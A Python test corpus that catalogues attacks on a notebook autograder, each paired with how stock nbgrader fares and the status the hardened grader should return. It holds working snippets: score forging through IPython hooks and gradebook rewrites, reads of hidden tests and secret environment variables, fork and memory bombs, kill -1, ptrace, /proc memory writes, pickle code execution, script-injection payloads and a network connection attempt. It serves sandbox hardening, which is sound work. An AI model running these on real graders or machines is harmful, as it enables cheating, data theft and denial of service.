"""The corpus: every attack is a submission whose `lstm.step` is wrong, plus something that wants points, secrets
or other students' grades.

`stock` says what stock nbgrader 0.9.6 does with it when tests are ordinary asserts: measured where it gives a score or
a time, otherwise what its code allows. Bombs were not let loose on it, and what nobody tried is called "not measured".
"""

from __future__ import annotations

import json
import os
import shutil
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from autograde.records import (
    CRASHED,
    FLOODED,
    GRADED,
    OUT_OF_MEMORY,
    STATUSES,
    TAMPERED,
    TIMEOUT,
    UNREADABLE,
)

WRONG = '''
def lstm_step(x, h, c, W, U, b):
    return 0.0, 0.0
'''
# An answer that lets Keras's cell work, reached at CELL.
WITH_CELL = '''
import pkgutil, keras
from keras.layers import *
stars = dict(globals())
kept = lambda: None
kept.cells = {u: stars["LS" + "TMCell"](u) for u in range(1, 12)}
def lstm_step(x, h, c, W, U, b):
    cell = CELL
    cell.build(x.shape)
    cell.set_weights([W, U, b])
    h, (_, c) = cell(x, [h, c])
    return h, c
'''
RIGHT_STEP = '''
def right_step(x, h, c, W, U, b):
    z = np.asarray(x) @ np.asarray(W) + np.asarray(h) @ np.asarray(U) + np.asarray(b)
    i, f, g, o = np.split(z, 4, axis=-1)
    sigmoid = lambda v: 1 / (1 + np.exp(-v))
    c = sigmoid(f) * c + sigmoid(i) * np.tanh(g)
    return sigmoid(o) * np.tanh(c), c
'''
FULL, NONE = "full marks for a wrong answer", "0"


@dataclass(frozen=True)
class Attack:
    """One attack.

    Attributes
    ----------
    code : runs in the solution cell, after the wrong answer.
    answer : the answer itself, where the attack is inside it.
    change : edits the notebook (a dict of JSON) in place, or returns other bytes to hand in.
    place : does something to the folder that is handed in; it is also given a file that is none of the student's.
    statuses : how it may end.
    earns : points it may earn (only attacks that hold a right answer may earn any).
    says : what its output must hold, as proof that the attack really ran.
    """

    id: str
    title: str
    stock: str
    code: str = ""
    answer: str = WRONG
    change: Callable[[dict], bytes | None] | None = None
    place: Callable[[Path, Path], None] | None = None
    statuses: tuple[str, ...] = (GRADED,)
    earns: float = 0.0
    says: str = ""


def _link_the_notebook(folder: Path, other: Path) -> None:
    [own] = folder.glob("*.ipynb")
    own.unlink()
    own.symlink_to(other)


def _link_beside(folder: Path, other: Path) -> None:
    (folder / "kept.txt").symlink_to(other)


def _link_beside_by_another_name(folder: Path, other: Path) -> None:
    (folder / "kept.txt").hardlink_to(other)


def _lesson_folder_is_a_link(folder: Path, other: Path) -> None:
    shutil.rmtree(folder)
    folder.symlink_to(other.parent, target_is_directory=True)


def _students_folder_is_a_link(folder: Path, other: Path) -> None:
    shutil.rmtree(folder.parent)
    folder.parent.symlink_to(other.parents[1], target_is_directory=True)


def _modules_of_others(folder: Path, other: Path) -> None:
    text = "def __getattr__(name): return lambda *a, **k: 1.0\n"
    for name in ("unrolled.py", "numpy.py", "json.py", "struct.py", "zipfile.py", "autograde.py"):
        (folder / name).write_text(text)
    (folder / "unrolled").mkdir()
    (folder / "unrolled" / "__init__.py").write_text(text)


def _much_beside(folder: Path, other: Path) -> None:
    for number in range(30):
        with (folder / f"large-{number}").open("wb") as file:
            file.truncate(7 * 2**20)
    for number in range(3_000):
        (folder / f"small-{number}").write_text("x")


def _pipes_beside(folder: Path, other: Path) -> None:
    os.mkfifo(folder / "pipe.txt")
    (folder / "tmp").write_text("x")  # the name of a folder that is there
    (folder / "a" / "b" / "c" / "d" / "e").mkdir(parents=True)
    (folder / "a" / "b" / "c" / "d" / "e" / "deep.txt").write_text("x")


def _bracket_bomb(folder: Path, other: Path) -> None:
    [own] = folder.glob("*.ipynb")
    own.write_bytes(b'{"cells": [{"outputs": ' + b"[" * 90_000_000)


def _zip_bomb(folder: Path, other: Path) -> None:
    with zipfile.ZipFile(folder / "bomb.zip", "w", zipfile.ZIP_DEFLATED) as bomb:
        bomb.writestr("zeros", bytes(50_000_000))


def _model_file(folder: Path, other: Path) -> None:
    (folder / "model.keras").write_bytes(b"poison")


def _checks(notebook: dict) -> list[dict]:
    return [c for c in notebook["cells"] if c["metadata"].get("nbgrader", {}).get("grade")]


def _tag(notebook):
    for cell in _checks(notebook):
        cell["metadata"]["tags"] = ["skip-execution"]


def _points(notebook):
    for cell in _checks(notebook):
        cell["metadata"]["nbgrader"]["points"] = 1000


def _not_a_check(notebook):
    for cell in _checks(notebook):
        cell["metadata"]["nbgrader"].update(grade=False, solution=True)


def _own_cell(notebook):
    notebook["cells"].append({"cell_type": "code", "id": "own", "execution_count": 1, "outputs": [], "source": "1000",
                              "metadata": {"nbgrader": {"grade": True, "grade_id": "bonus", "points": 100,
                                                        "solution": False, "locked": True, "schema_version": 3}}})


def _duplicate(notebook):
    notebook["cells"] = [copy for c in notebook["cells"] for copy in (c, json.loads(json.dumps(c)))]


def _stored_outputs(notebook):
    for cell in _checks(notebook):
        cell["outputs"] = [{"output_type": "execute_result", "execution_count": 1, "metadata": {},
                            "data": {"text/plain": "5.0"}}]


def _script_everywhere(notebook):
    for cell in notebook["cells"]:
        if cell["cell_type"] == "markdown":
            cell["source"] = "<script>alert(1)</script><img src=x onerror=alert(2)>"


def _many_cells(notebook):
    notebook["cells"] += [{"cell_type": "code", "id": f"x{i}", "metadata": {}, "execution_count": None,
                           "outputs": [], "source": "x = 1"} for i in range(200_000)]


def _deep_json(notebook):
    return b'{"cells": ' + b"[" * 200_000 + b"]" * 200_000 + b', "metadata": {}, "nbformat": 4, "nbformat_minor": 5}'


def _gates(source: str):
    """Answer the exercise after this one with `source`."""
    def change(notebook):
        [cell] = [c for c in notebook["cells"] if c["metadata"].get("nbgrader", {}).get("grade_id") == "lstm-gates"]
        cell["source"] = source
    return change


def _in_source(text: str):
    """Put `text` below the answer, past JSON's own escaping."""
    def change(notebook):
        for cell in notebook["cells"]:
            if cell["metadata"].get("nbgrader", {}).get("grade_id") == "lstm-step":
                cell["source"] = "".join(cell["source"]) + "\n" + text
    return change


SEND = '''
import struct, json
def send(kind, data, body=b"", head=None, size=None, magic=b"UNR1"):
    head = json.dumps(data).encode() if head is None else head
    os.write(3, struct.pack(">4s16sII", magic, kind, len(head), len(body) if size is None else size) + head + body)
'''

FORGING = [
    Attack("A1", "tag the test cells `skip-execution`", FULL, change=_tag),
    Attack("A2", "send a result through the display hook", FULL, answer='''
def lstm_step(x, h, c, W, U, b):
    get_ipython().displayhook(10.0)
    return 0.0, 0.0
'''),
    Attack("A3", "empty every later cell with an AST transformer", FULL, code='''
import ast
class Empty(ast.NodeTransformer):
    def visit_Module(self, node):
        node.body = []
        return node
get_ipython().ast_transformers.append(Empty())
'''),
    Attack("A4", "turn every later cell into `pass` with an input transformer", FULL,
           code='get_ipython().input_transformers_cleanup.append(lambda lines: ["pass\\n"])'),
    Attack("A5", "replace the shell's run_cell by one that always succeeds", FULL, code='''
class Fine:
    error_before_exec = error_in_exec = None
    success = True
type(get_ipython()).run_cell = lambda self, *a, **k: Fine()
get_ipython().run_cell = lambda *a, **k: Fine()
'''),
    Attack("A6", "return an array that is equal to everything", FULL, answer='''
class Equal(np.ndarray):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __array_function__(self, *a, **k): return True
    def __array_ufunc__(self, *a, **k): return np.zeros(())
def lstm_step(x, h, c, W, U, b):
    return np.zeros(3).view(Equal), np.zeros(3).view(Equal)
'''),
    Attack("A7", "register a text formatter that prints full marks", FULL,
           code='get_ipython().display_formatter.formatters["text/plain"].for_type(object, lambda *a: "5.0")'),
    Attack("A8", "silence showtraceback", NONE, code="get_ipython().showtraceback = lambda *a, **k: None"),
    Attack("A9", "monkeypatch what compares: numpy.testing, allclose, abs", "not measured (same interpreter)", code='''
import builtins, numpy.testing
for module in (np, numpy.testing):
    for name in ("allclose", "array_equal", "assert_allclose", "assert_array_equal", "isclose"):
        if hasattr(module, name): setattr(module, name, lambda *a, **k: True)
builtins.all = builtins.any = lambda *a: True
builtins.abs = lambda *a: 0
'''),
    Attack("A10", "patch the checking framework itself", "n/a (no framework; see A3–A9)", code='''
import unrolled, unrolled.checking, unrolled.probes
unrolled.check = unrolled.checking.check = check = lambda *a: None
unrolled.probes.run = lambda *a: unrolled.probes.Outcome({"random/h": np.ones((3, 7))}, {})
'''),
    Attack("A11", "a background thread that patches names in later cells", FULL, code='''
import threading, time
def patch():
    while True:
        get_ipython().user_ns["check"] = lambda *a: None
        time.sleep(0.001)
threading.Thread(target=patch, daemon=True).start()
'''),
    Attack("A12", "a detached process that rewrites the gradebook later", FULL + " (30 of 15)", code='''
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        import time, glob, sqlite3
        for _ in range(1000):
            for path in glob.glob("/**/gradebook.db", recursive=True):
                sqlite3.connect(path).execute("update grade set auto_score = 100").connection.commit()
            time.sleep(0.05)
    os._exit(0)
'''),
    Attack("A13", "write result files wherever they might be read", "n/a (no such files)", code='''
for folder in (".", "/tmp", "/student", "/autograder", "/"):
    for name in ("results.json", "results.pkl", "journal.jsonl", "04_lstm.html"):
        try: open(os.path.join(folder, name), "w").write('{"score": 100}')
        except OSError: pass
'''),
    Attack("A14", "return a pickle that runs code where it is loaded", "n/a (nothing is loaded)", answer='''
class Poison:
    def __reduce__(self): return (os.system, ("touch /tmp/poisoned",))
def lstm_step(x, h, c, W, U, b):
    return np.array([Poison()], dtype=object), np.array([Poison()], dtype=object)
'''),
    Attack("A15", "notice grading by the environment and special-case it", FULL, code='''
print("env", sorted(os.environ), "grading" if "NBGRADER_EXECUTION" in os.environ else "not told")
''', says="not told"),
    Attack("A16", "learn the public inputs' answers by heart", FULL, answer='''
KNOWN = {}
def lstm_step(x, h, c, W, U, b):
    key = round(float(np.sum(x)), 3)
    return KNOWN.get(key, (np.zeros_like(h), np.zeros_like(c)))
''', earns=1.0),
    Attack("A17", "give the test cells 1000 points in the metadata", NONE, change=_points),
    Attack("A18", "mark the test cells as solution cells", "submission not scored at all", change=_not_a_check),
    Attack("A19", "add a graded cell of one's own", "submission not scored at all", change=_own_cell),
    Attack("A20", "exit early: os._exit", "no cell scored, output removed", code="os._exit(0)", statuses=(CRASHED,)),
    Attack("A20b", "exit early: sys.exit", NONE, code="import sys; sys.exit(0)"),
    Attack("A21", "save full marks as a stored output", NONE, change=_stored_outputs),
]

READING = [
    Attack("B1", "read the hidden tests: course folders, grader, git", "all readable", code='''
seen = []
for top in ("/", "/home", "/root", os.getcwd(), os.path.dirname(os.path.dirname(np.__file__))):
    for depth in ("*", "*/*", "*/*/*", "*/*/*/*"):
        import glob
        seen += [p for p in glob.glob(os.path.join(top, depth)) if not p.startswith(("/proc", "/usr", "/lib"))
                 and ("04_lstm" in p or "/oracles" in p or p.endswith(("/autograde", "/solutions", "/.git")))]
print("seen", seen)
''', says="seen []"),
    Attack("B1b", "import the grader", "n/a", code='''
try:
    import autograde.judging.oracles.lstm
    print("imported")
except ImportError as error:
    print("no grader:", error)
''', says="no grader"),
    Attack("B1c", "search memory for oracles and secrets", "tests are in memory", code='''
import gc, sys
print("found", [m for m in sys.modules if m.startswith("autograde")],
      [type(o).__name__ for o in gc.get_objects() if type(o).__name__ in ("Exercise", "Misconception", "Oracle")])
''', says="found [] []"),
    Attack("B2", "read other students' work and the gradebook", "all readable", code='''
import glob, unrolled
course = os.path.dirname(os.path.dirname(unrolled.__file__))
print("seen", [p for p in glob.glob(course + "/*") + glob.glob(course + "/*/*") if "grade" in p or "submitted" in p])
''', says="seen []"),
    Attack("B3", "print the check's source and a traceback into the feedback", "hidden tests are shown", code='''
import inspect, unrolled.probes.lstm
print(inspect.getsource(unrolled.probes.lstm.step))
raise RuntimeError("look")
'''),
    Attack("B4", "send data out over the network", "connects", code='''
import socket
for address in (("127.0.0.1", 80), ("192.0.2.1", 80)):
    try:
        socket.create_connection(address, 0.5); print("connected")
    except OSError as error:
        print("no network:", error)
''', says="no network"),
    Attack("B5", "hand in a link to another student's notebook", "its content is graded and shown as one's own",
           place=_link_the_notebook, statuses=(UNREADABLE,)),
    Attack("B5b", "hand in a link to the gradebook beside the notebook", "copied into autograded/ and the feedback",
           place=_link_beside, code='print(os.path.exists("kept.txt"), os.listdir("."))', says="False"),
    Attack("B5c", "hand in a folder for the lesson that is a link to another student's", "not measured",
           place=_lesson_folder_is_a_link, statuses=(UNREADABLE,)),
    Attack("B5d", "be a student whose folder is a link to another's", "not measured",
           place=_students_folder_is_a_link, statuses=(UNREADABLE,)),
    Attack("B5e", "give another's file a second name beside the notebook (a hard link)", "not measured",
           place=_link_beside_by_another_name, code='print(os.path.exists("kept.txt"))', says="False"),
    Attack("B7", "read the environment of the grader", "all readable", code='''
print("env", [v for v in os.environ if "SECRET" in v or "DB" in v or "TOKEN" in v])
''', says="env []"),
    Attack("B8", "look at the processes of the machine", "all visible", code='''
print("pids", sorted(p for p in os.listdir("/proc") if p.isdigit())[:3], os.getppid())
''', says="pids ['1'] 0"),
]

FAULTS = [
    Attack("C1", "endless loop", "30 s, then 0 for the cell", code="while True: pass", statuses=(TIMEOUT,)),
    Attack("C2", "endless loop that ignores interrupts", "submission not scored", code='''
import signal
for number in (signal.SIGINT, signal.SIGTERM, signal.SIGALRM, signal.SIGPROF):
    signal.signal(number, signal.SIG_IGN)
while True: pass
''', statuses=(TIMEOUT,)),
    Attack("C3", "fork bomb (bounded here to 2,000 forks)", "no limit in its code", code='''
import time
for _ in range(2000):
    try:
        if os.fork() == 0:
            time.sleep(60); os._exit(0)
    except OSError as error:
        print("limit:", error); break
''', says="limit:"),
    Attack("C4", "memory bomb", "no limit in its code", code='''
hoard = []
while True: hoard.append(np.ones(4_000_000))
''', statuses=(OUT_OF_MEMORY,)),
    Attack("C5", "fill the disk", "no limit in its code", code='''
try:
    with open("big", "wb") as file:
        for _ in range(10_000): file.write(bytes(1 << 20))
except OSError as error:
    print("limit:", error)
''', says="limit:"),
    Attack("C6", "print for ever", "30 MB in one line reach the feedback", code='''
while True: print("x" * 100_000, end="")
''', statuses=(FLOODED,)),
    Attack("C6b", "write for ever to descriptors 1 and 2", "as C6", code='''
import threading
for _ in range(2000): os.write(1, b"x" * 100_000); os.write(2, b"x" * 100_000)
'''),
    Attack("C8", "a zip bomb beside the notebook", "unpacked without limit while collecting (194 kB became 200 MB)",
           place=_zip_bomb, code='print(os.path.getsize("bomb.zip") < 100_000)', says="True"),
    Attack("C9", "a poisoned model file beside the notebook", "loaded wherever code loads it", place=_model_file,
           code='''
print(os.path.exists("model.keras"))
''', says="True"),
    Attack("C9b", "modules beside the notebook that are called as the grader's and the libraries' are", "not measured",
           place=_modules_of_others, code='''
import importlib, sys
for name in ("unrolled", "json", "struct", "zipfile"):
    for known in [m for m in sys.modules if m == name or m.startswith(name + ".")]:
        del sys.modules[known]
    print(name, importlib.import_module(name).anything())
''', says="unrolled 1.0"),
    Attack("C9c", "more files beside the notebook than anyone needs", "all copied", place=_much_beside, code='''
print("held", len([n for n in os.listdir(".") if n.startswith("small-")]) <= 100,
      sum(n.startswith("large-") for n in os.listdir(".")) <= 2)
''', says="held True True"),
    Attack("C9d", "pipes, deep folders and a name that is taken beside the notebook", "not measured",
           place=_pipes_beside, code='print("pipe", os.path.exists("pipe.txt"), os.path.exists("a/b/c/d/e"))',
           says="pipe False False"),
    Attack("C10", "script in markdown and output", "runs in the instructor's browser", change=_script_everywhere,
           code='print("<script>alert(1)</script>"); raise ValueError("<img src=x onerror=alert(1)>")'),
    Attack("C11", "every cell twice", "stops the batch for everybody after", change=_duplicate),
    Attack("C12", "close descriptors 1 and 2", NONE, code="os.close(1); os.close(2)"),
    Attack("C13", "a megabyte of carriage returns on one line", "minutes of CPU where streams are coalesced",
           code='print("a\\r" * 500_000)'),
    Attack("C14", "exotic text, emoji, and a question to the keyboard", "error", code='''
print("🙂 \\u202e reversed \\ud83d".encode("utf-8", "replace").decode())
answer = input("points? ")
'''),
]

WARM_PROCESS = [
    Attack("W1", "kill every process there is", "not measured", code='''
import signal
try: os.kill(-1, signal.SIGKILL)
except OSError as error: print(error)
for pid in range(1, 400):
    if pid != os.getpid():
        try: os.kill(pid, signal.SIGKILL)
        except OSError: pass
'''),
    Attack("W2", "trace process 1 and neighbours", "not measured", code='''
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
print("ptrace", [libc.ptrace(16, pid, 0, 0) for pid in (1, 2, 3)])
''', says="ptrace [-1, -1, -1]"),
    Attack("W3", "write to the parent's memory through /proc", "not measured", code='''
for pid in ("1", str(os.getppid())):
    try: open(f"/proc/{pid}/mem", "r+b").seek(0x1000)
    except OSError as error: print(error)
'''),
    Attack("W4", "use descriptors that were left open", "not measured", code='''
print("open", sorted(int(n) for n in os.listdir("/proc/self/fd") if int(n) > 3)[:-1])
''', says="open []"),
    Attack("W5", "leave something for the next student in shared memory", "not measured", code='''
open("/dev/shm/for-you", "w").write("the answers")
import ctypes
ctypes.CDLL(None).shmget(4242, 4096, 0o1666)
'''),
    Attack("W6", "enter a user namespace of one's own", "not measured", code='''
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
print("unshare", libc.unshare(0x10000000), "mount", libc.mount(b"x", b"/tmp", b"tmpfs", 0, None))
''', says="unshare -1 mount -1"),
    Attack("W7", "make the file system writable again", "not measured", code='''
import ctypes, unrolled
libc = ctypes.CDLL(None, use_errno=True)
libc.mount(None, b"/", None, 32 | 4096, None)
try: open(unrolled.__file__, "a").write("# mine"); print("written")
except OSError as error: print("kept:", error)
''', says="kept:"),
    Attack("W8", "raise one's own limits", "not measured", code='''
import resource
for what in (resource.RLIMIT_NPROC, resource.RLIMIT_NOFILE, resource.RLIMIT_FSIZE):
    try: resource.setrlimit(what, (resource.RLIM_INFINITY, resource.RLIM_INFINITY)); print("raised")
    except (ValueError, OSError) as error: print("kept:", error)
''', says="kept:"),
    Attack("W9", "poison modules for whoever is forked next", "n/a (a kernel each)", code='''
import unrolled.probes, unrolled.sandbox.channel as channel, keras
unrolled.probes.run = None
channel.pack = None
keras.ops.matmul = None
keras.layers.Layer = None
''', statuses=STATUSES),
    Attack("W10", "stop oneself", "not measured", code="import signal; os.kill(os.getpid(), signal.SIGSTOP)",
           statuses=(GRADED, TIMEOUT)),
    Attack("W11", "a connection to a neighbour over abstract sockets", "not measured", code='''
import socket
listener = socket.socket(socket.AF_UNIX); listener.bind("\\0unrolled-neighbour"); listener.listen()
'''),
    Attack("W12", "crash the interpreter", "not measured",
           code="import ctypes; ctypes.string_at(0)", statuses=(CRASHED,)),
    Attack("W13", "overflow the C stack", "not measured", code='''
import sys
sys.setrecursionlimit(10**9)
def deeper(): return deeper.__call__()
deeper()
''', statuses=(CRASHED, GRADED, OUT_OF_MEMORY, TIMEOUT)),
]

CHANNEL = [
    Attack("K1", "a header that lies about its length", "n/a", code=SEND + 'send(b"answer", {}, size=(1 << 32) - 1)',
           statuses=(TAMPERED,)),
    Attack("K2", "bytes that are no frame", "n/a", code='os.write(3, b"full marks please")', statuses=(TAMPERED,)),
    Attack("K3", "an endless stream", "n/a", code='''
while True: os.write(3, b"UNR1cell" + bytes(12) + bytes([0, 0, 0, 2, 0, 0, 0, 0]) + b"{}")
''', statuses=(TAMPERED, TIMEOUT)),
    Attack("K4", "a decompression bomb in place of arrays", "n/a", code=SEND + '''
import io, zipfile
buffer = io.BytesIO()
with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
    archive.writestr("random/h.npy", bytes(200_000_000))
send(b"answer", {"exercise": "lstm.step", "errors": {}}, buffer.getvalue())
''', statuses=(TAMPERED,)),
    Attack("K5", "forged answers, from a guess of what is expected", "n/a", code='''
from unrolled.sandbox import channel
os.write(3, channel.pack("answer", {"exercise": "lstm.step", "errors": {}, "changed": {}},
                         {f"{case}/{k}": np.zeros((3, 7)) for case in ("random", "first") for k in "hc"}))
''', earns=1.0),
    Attack("K6", "an early `end`", "n/a", code='''
from unrolled.sandbox import channel
os.write(3, channel.pack("end", {}))
'''),
    Attack("K7", "a frame of a kind of its own: points", "n/a", code=SEND + 'send(b"points", {"lstm.step": 5})',
           statuses=(TAMPERED,)),
    Attack("K8", "text that is deeply nested JSON", "n/a",
           code=SEND + 'send(b"answer", None, head=b"[" * 100_000)', statuses=(TAMPERED,)),
    Attack("K9", "close the channel", "n/a", code="os.close(3)", statuses=(CRASHED,)),
    Attack("K10", "an object whose __array__ runs code", "not measured", answer='''
class Sneaky:
    def __array__(self, *a, **k):
        import unrolled.sandbox.runner
        return np.ones((3, 7))
def lstm_step(x, h, c, W, U, b):
    return Sneaky(), Sneaky()
''', earns=1.0),
    Attack("K11", "NaN and infinity", "not measured", answer='''
def lstm_step(x, h, c, W, U, b):
    return np.full(h.shape, np.nan), np.full(c.shape, np.inf)
''', earns=1.0),
    Attack("K12", "an array of a hundred million numbers", "not measured", answer='''
def lstm_step(x, h, c, W, U, b):
    return np.zeros(100_000_000, "float32"), 0.0
'''),
    Attack("K13", "strings, objects and structured arrays", "not measured", answer='''
def lstm_step(x, h, c, W, U, b):
    return np.array(["5"]), np.zeros(3, dtype=[("points", "f8")])
'''),
    *[Attack(f"G{number}", f"the built-in, {road}", FULL, answer=WITH_CELL.replace("CELL", cell))
      for number, (road, cell) in enumerate({
          "deserialised": "keras.layers.deserialize({'module': 'keras.layers', 'class_name': 'LS' + 'TMCell',\n"
                          "        'config': {'units': h.shape[-1]}, 'registered_name': None})",
          "out of a module's dictionary": "vars(keras.layers)['LS' + 'TMCell'](h.shape[-1])",
          "under a computed name": "getattr(keras.layers, bytes([76, 83, 84, 77]).decode() + 'Cell')(h.shape[-1])",
          "from a star import": "stars['LS' + 'TMCell'](h.shape[-1])",
          "found by pkgutil": "pkgutil.resolve_name('keras.layers:LS' + 'TMCell')(h.shape[-1])",
          "among all subclasses": "next(c for c in keras.layers.Layer.__subclasses__()\n"
                                  "        if c.__name__ == 'LS' + 'TMCell')(h.shape[-1])",
          "made beforehand and kept on another answer's function": "kept.cells.pop(h.shape[-1])",
      }.items(), 1)],
    Attack("G8", "a TensorFlow raw op that is the answer", FULL, answer='''
import tensorflow as tf
def lstm_step(x, h, c, W, U, b):
    u = h.shape[-1]
    order = np.r_[0:u, 2 * u:3 * u, u:2 * u, 3 * u:4 * u]
    op = getattr(tf.raw_ops, "LS" + "TMBlockCell")
    zero = np.zeros(u, "float32")
    out = op(x=x, cs_prev=c, h_prev=h, w=np.concatenate([W, U])[:, order], b=b[order], wci=zero, wcf=zero, wco=zero,
             forget_bias=0.0)
    return out.h, out.cs
'''),
    Attack("G9", "the lesson's own helper, imported under a computed name", FULL, answer='''
import importlib
def lstm_step(x, h, c, W, U, b):
    forward = importlib.import_module("unrolled.lessons." + "lstm").forward
    states, caches = forward(x[:, None], h, c, W, U, b, np.zeros((3, h.shape[-1])))
    return states[-1], caches[-1]["c"]
'''),
    *[Attack(f"N{number}", f"the right numbers as {what}", stock, answer=RIGHT_STEP + f'''
def lstm_step(x, h, c, W, U, b):
    return [{wrapped} for v in right_step(x, h, c, W, U, b)]
''') for number, (what, stock, wrapped) in enumerate((
        ("text", "not measured", "np.asarray(v).astype(str)"),
        ("complex numbers with a wrong imaginary part", "full marks", "np.asarray(v) + 7j"),
        ("a masked array that hides them", "full marks", "np.ma.masked_array(v, mask=True)"),
        ("times", "not measured", "(np.asarray(v) * 1e6).astype('timedelta64[us]')"),
        ("objects that are text", "not measured", "[[str(n) for n in row] for row in np.asarray(v)]"),
    ), 1)],
    Attack("K14", "an exception whose text never ends", "not measured", answer='''
class Endless(Exception):
    def __str__(self): return "x" * 50_000_000
def lstm_step(x, h, c, W, U, b):
    raise Endless
'''),
    Attack("K15", "an exception that cannot be shown", "not measured", answer='''
class Shy(Exception):
    def __str__(self): raise Shy
    __repr__ = __str__
def lstm_step(x, h, c, W, U, b):
    raise Shy
''', statuses=STATUSES),
]

REBUILD = [
    Attack("R1", "a notebook of 200,000 cells", "not measured", change=_many_cells, statuses=(UNREADABLE,)),
    Attack("R2", "JSON nested 200,000 deep", "not measured", change=_deep_json, statuses=(UNREADABLE,)),
    Attack("R2b", "90 MB of brackets where outputs are left out of a large file", "not measured", place=_bracket_bomb,
           statuses=(UNREADABLE,)),
    Attack("R3", "null bytes in a cell", "not measured", change=_in_source("\0x = 1\0"), statuses=(GRADED,)),
    Attack("R4", "brackets nested deeper than the parser goes", "not measured",
           change=_in_source("x = " + "(" * 50_000 + ")" * 50_000)),
    Attack("R5", "an operator chain the compiler falls over", "not measured",
           change=_in_source("x = " + "-" * 100_000 + "1")),
    Attack("R6", "lone surrogates in a cell", "not measured", change=_in_source('x = "\ud83d"')),
    Attack("R7", "a number of a million digits", "not measured", change=_in_source("x = " + "9" * 150_000)),
]

TIME = [
    Attack("T1", "sleep in a destructor", "not measured", code='''
import time
class Sleepy:
    def __del__(self): time.sleep(1000)
keep = Sleepy()
'''),
    Attack("T2", "sleep at exit", "not measured", code='''
import atexit, time
atexit.register(time.sleep, 1000)
'''),
    Attack("T3", "a thread that outlives its cell", "not measured", code='''
import threading, time
threading.Thread(target=lambda: time.sleep(1000)).start()
'''),
    Attack("T4", "a daemon that outlives the submission", "not measured", code='''
import time
if os.fork() == 0:
    os.setsid()
    time.sleep(1000)
    os._exit(0)
'''),
    Attack("T5", "sleep through the wall clock", "not measured", code="import time; time.sleep(10_000)",
           statuses=(TIMEOUT,)),
    Attack("T6", "switch the clock's alarm off, then loop", "not measured", code='''
import signal
signal.setitimer(signal.ITIMER_PROF, 0); signal.setitimer(signal.ITIMER_REAL, 0)
signal.signal(signal.SIGALRM, signal.SIG_IGN)
while True: pass
''', statuses=(TIMEOUT,)),
    Attack("T7", "a loop that swallows every exception", "not measured", code='''
while True:
    try:
        while True: pass
    except BaseException: pass
''', statuses=(TIMEOUT,)),
    Attack("T8", "half a million small files", "not measured", code='''
try:
    for i in range(500_000): open(f"f{i}", "w").close()
except OSError as error: print("limit:", error)
''', says="limit:"),
]

# One cell makes another exercise's check do the work: a wrong answer there would be worth full marks.
NO_GATES = "def lstm_gates(x, h, c, W, U, b):\n    return {}\n"
RIGHT_GATES = '''
import unrolled.probes, unrolled.probes.lstm, unrolled.probes.guard
def right_gates(answer, case):
    x, h, c, W, U, b = (case[name] for name in ("x", "h", "c", "W", "U", "b"))
    sigmoid = lambda v: 1 / (1 + np.exp(-v))
    steps = []
    for t in range(x.shape[1]):
        i, f, g, o = np.split(x[:, t] @ W + h @ U + b, 4, axis=-1)
        i, f, g, o = sigmoid(i), sigmoid(f), np.tanh(g), sigmoid(o)
        c = f * c + i * g
        h = o * np.tanh(c)
        steps.append((i, f, g, o, c, h))
    return dict(zip("ifgoch", np.stack(steps, axis=2)))
'''
MEDDLING = [
    Attack("X1", "replace another exercise's probe", FULL, change=_gates(NO_GATES), code=RIGHT_GATES + '''
unrolled.probes.lstm.gates = right_gates
'''),
    Attack("X2", "replace the code of another exercise's probe", FULL, change=_gates(NO_GATES), code=RIGHT_GATES + '''
unrolled.probes.lstm.right_gates, unrolled.probes.lstm.np = right_gates, np
unrolled.probes.lstm.gates.__code__ = (lambda answer, case: right_gates(answer, case)).__code__
'''),
    Attack("X3", "replace how another exercise's probe is found", FULL, change=_gates(NO_GATES), code=RIGHT_GATES + '''
find = unrolled.probes.find
unrolled.probes.find = lambda name: right_gates if name == "lstm.gates" else find(name)
'''),
    Attack("X4", "let an answer replace another exercise's probe while it is tried", FULL, change=_gates(NO_GATES),
           answer=RIGHT_GATES + '''
def lstm_step(x, h, c, W, U, b):
    unrolled.probes.lstm.gates = right_gates
    return 0.0, 0.0
'''),
]

CORPUS = [*FORGING, *READING, *FAULTS, *WARM_PROCESS, *CHANNEL, *REBUILD, *TIME, *MEDDLING]
